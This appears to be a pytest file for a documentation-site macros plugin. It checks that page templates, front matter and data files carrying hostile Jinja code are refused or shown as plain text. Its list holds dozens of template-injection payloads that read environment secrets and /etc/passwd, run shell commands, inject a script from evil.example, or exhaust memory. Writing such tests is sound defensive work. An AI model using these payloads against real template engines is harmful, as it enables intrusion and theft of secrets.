"""A page is a template, so a page could run code while the site is built: none does, wherever it hides.

Each page below was written to read, change or publish something, or to stop the machine. None is run: the check
reads the template, refuses it with its place, and the secret stays where it is.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from helpers import call, load, make_project
from selectolax.lexbor import LexborHTMLParser
from test_bad_input import time_limit

from macros.__main__ import main

SECRET = "swordfish-4711"  # noqa: S105 - of this test alone
OPENING = "You can bake"
LINE = 10

HOSTILE = {
    # Reading what is not the page's
    "the environment, through a helper": "{{ cycler.__init__.__globals__.os.environ }}",
    "the environment, through another helper": "{{ lipsum.__globals__['os'].environ }}",
    "the environment, through a third": "{{ joiner.__init__.__globals__.os.environ['SECRET_OF_THE_TEST'] }}",
    "the environment, through a name space": "{{ namespace.__init__.__globals__.os.getenv('SECRET_OF_THE_TEST') }}",
    "the environment, with names in code": r"{{ cycler|attr('\x5f\x5finit\x5f\x5f')|attr('\x5f\x5fglobals\x5f\x5f') }}",
    "the environment, through a macro": "{{ term.__globals__ }}",
    "the environment, through what a macro returns": "{{ term('yeast').__class__.__mro__ }}",
    "a file, through builtins": "{{ cycler.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "a file, through every class there is": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a file, through the builder": "{{ page.file.generated(config, 'x', abs_src_path='/etc/passwd').content_string }}",
    "a file, by an include": "{% include '/etc/passwd' %}",
    "a file, by an include of a neighbour": "{% include '../../mkdocs.yml' ignore missing %}",
    "a file, by an import": "{% import 'index.md' as index %}",
    "a file, by part of an import": "{% from 'index.md' import a %}",
    "the configuration": "{{ config }}",
    "a part of the configuration": "{{ config['plugins'] }}",
    "everything that the builder knows": "{{ context() }}",
    "what the macros know": "{{ macros_info() }}",
    "the template itself": "{{ self._TemplateReference__context }}",
    "an attribute, by a filter": "{{ [page]|map(attribute='file.abs_src_path')|list }}",
    "an attribute, by a format": "{{ '{0.__class__.__init__.__globals__}'.format(page) }}",
    # Running a program
    "a shell": "{{ cycler.__init__.__globals__.os.popen('touch marker').read() }}",
    "a shell, in a comment": "<!-- {{ cycler.__init__.__globals__.os.system('touch marker') }} -->",
    "a shell, in code": "`{{ cycler.__init__.__globals__.os.system('touch marker') }}`",
    "a shell, in fenced code": "```\n{{ cycler.__init__.__globals__.os.system('touch marker') }}\n```\n",
    "a shell, in the target of a link": "[A loaf]({{ cycler.__init__.__globals__.os.system('touch marker') }})",
    "a shell, in an attribute": "A loaf {: title=\"{{ cycler.__init__.__globals__.os.system('touch marker') }}\" }",
    "a shell, over two lines": "{{ cycler.__init__\n.__globals__.os.system('touch marker') }}",
    "a shell, beside a good macro": "{{ term('yeast') }}{{ cycler.__init__.__globals__.os.system('touch marker') }}",
    "a shell, without a space": "{{cycler.__init__.__globals__.os.system('touch marker')}}",
    "a shell, with signs that eat space": "{{- cycler.__init__.__globals__.os.system('touch marker') -}}",
    "a shell, in a condition": "{% if cycler.__init__.__globals__.os.system('touch marker') %}{% endif %}",
    "a shell, in a name": "{% set a = cycler.__init__.__globals__.os.system('touch marker') %}",
    "a shell, in a do": "{% do cycler.__init__.__globals__.os.system('touch marker') %}",
    "a shell, in a call": "{% call term(cycler.__init__.__globals__.os.system('touch marker')) %}{% endcall %}",
    "a shell, in a filter": "{% filter upper %}{{ lipsum.__globals__.os.system('touch marker') }}{% endfilter %}",
    # Hiding in a macro's arguments
    "an argument that is a name": "{{ term(config) }}",
    "an argument that is a call": "{{ term(cycler.__init__.__globals__.os.getcwd()) }}",
    "an argument that is a sum": "{{ term('a' ~ config) }}",
    "an argument that is a choice": "{{ term('a' if config else 'b') }}",
    "an argument that is a mapping": "{{ term({'a': config}) }}",
    "an argument by name": "{{ term('yeast', words=page.meta) }}",
    "an argument deep in lists": "{{ key_points('a', [['b', [config]]]) }}",
    "arguments unpacked": "{{ term(*config) }}",
    "named arguments unpacked": "{{ term(**config) }}",
    "a macro found in a list": "{{ [term][0]('yeast') }}",
    "a macro behind a filter": "{{ term('yeast')|replace('a', config) }}",
    "a macro behind a test": "{{ term('yeast') is defined }}",
    "an element of what a macro returns": "{{ term('yeast')[0] }}",
    "two macros made one": "{{ term('yeast') ~ config }}",
    # Changing what is not the page's
    "a script on every page": "{{ config.extra_javascript.append('https://evil.example/a.js') }}",
    "a file published": "{{ files.append(page.file.generated(config, 'a.html', content='a')) }}",
    "a page removed": "{{ files.remove(files.get_file_from_path('evidence.md')) }}",
    "a title changed": "{{ page.meta.update({'title': 'Evil'}) }}",
    "a macro of one's own": "{% macro term(a) %}evil{% endmacro %}",
    "a block of the theme": "{% block content %}evil{% endblock %}",
    "another template": "{% extends 'main.html' %}",
    "escaping switched off": "{% autoescape false %}<b>{% endautoescape %}",
    "a filter that trusts": "{{ '<script>alert(1)</script>'|safe }}",
    "words that are markup": "{{ '<script>alert(1)</script>' }}",
    # Stopping the machine
    "loops in loops": "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
    "words of a gigabyte": "{{ 'a' * 10**9 }}",
    "words of a gigabyte, in the middle": "{{ 'a'.center(10**9) }}",
    "a number without end": "{{ 9**9**9 }}",
    "a range without end": "{{ range(10**12)|list }}",
    "brackets without end": "{{ " + "(" * 20_000 + " }}",
    "lists without end": "{{ term(" + "[" * 20_000 + "]" * 20_000 + ") }}",
    "filters without end": "{{ 'a'" + "|upper" * 20_000 + " }}",
    "words without end": "{{ '" + "a" * 200_000,
    # Hiding the words of others
    "a comment of the template language": "{# nothing to see",
    "a comment that closes": "{# nothing to see #}",
    "a raw block": "{% raw %}",
    "a statement that nobody closes": "{% if",
    "an expression that nobody closes": "{{ term('yeast'",
}  # fmt: skip


@pytest.fixture(autouse=True)
def _secret(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("SECRET_OF_THE_TEST", SECRET)
    monkeypatch.chdir(tmp_path)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_page_is_refused_with_its_place(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = make_project(tmp_path, edits={"docs/index.md": {OPENING: f"{HOSTILE[name]} {OPENING}"}})
    with time_limit(10):
        assert main(["check", "--root", str(root)]) == 1
    output = capsys.readouterr().out
    told = re.search(r"^docs/index\.md:(\d+):\d+: error: .+   \[page-(template|unknown-macro)\]$", output, re.MULTILINE)
    assert told, output[:3000]
    assert LINE <= int(told.group(1)) <= LINE + 3 or name.endswith(("without end", "nobody closes"))
    assert SECRET not in output
    assert "Traceback" not in output
    assert not list(tmp_path.rglob("marker"))


@pytest.mark.parametrize(
    "row",
    [
        "title: \"{{ cycler.__init__.__globals__.os.system('touch marker') }}\"",
        "title: '{% include \"/etc/passwd\" %}'",
        "title: Bread # {{ config }}",
        "render_macros: true",
        "term: evil",
        "template: evil.html",
        "hide: ['{{ config }}']",
    ],
)
def test_front_matter_runs_nothing_and_replaces_nothing(
    row: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    kept = "" if row.startswith("title") else "title: Bread at home\n"
    root = make_project(tmp_path, edits={"docs/index.md": {"title: Bread at home\n": f"{kept}{row}\n"}})
    assert main(["check", "--root", str(root)]) == 1
    output = capsys.readouterr().out
    assert re.search(r"^docs/index\.md:[23]:\d+: error: ", output, re.MULTILINE), output
    assert not list(tmp_path.rglob("marker"))


@pytest.mark.parametrize("path", ["data/glossary.yml", "data/care-cards.yml", "data/comparisons/ovens.yml"])
def test_template_code_in_data_is_words(path: str, tmp_path: Path) -> None:
    words = {
        "data/glossary.yml": ("Flour and water, kneaded.", "glossary.md", "glossary", ()),
        "data/care-cards.yml": ("Keep it cool.", "bake/first-loaf.md", "care_card", ("burn",)),
        "data/comparisons/ovens.yml": ("250 degrees.", "bake/first-loaf.md", "comparison", ("ovens",)),
    }
    old, page, macro, arguments = words[path]
    code = "{{ cycler.__init__.__globals__.os.environ }} {% raw %} {# a #}"
    root = make_project(tmp_path, edits={path: {old: code}})
    shown: LexborHTMLParser = call(load(root), page, macro, *arguments)
    assert shown.body is not None
    assert "{{ cycler.__init__.__globals__.os.environ }} {% raw %} {# a #}" in " ".join(shown.body.text().split())


def test_there_are_at_least_40_hostile_pages() -> None:
    assert len(HOSTILE) >= 40
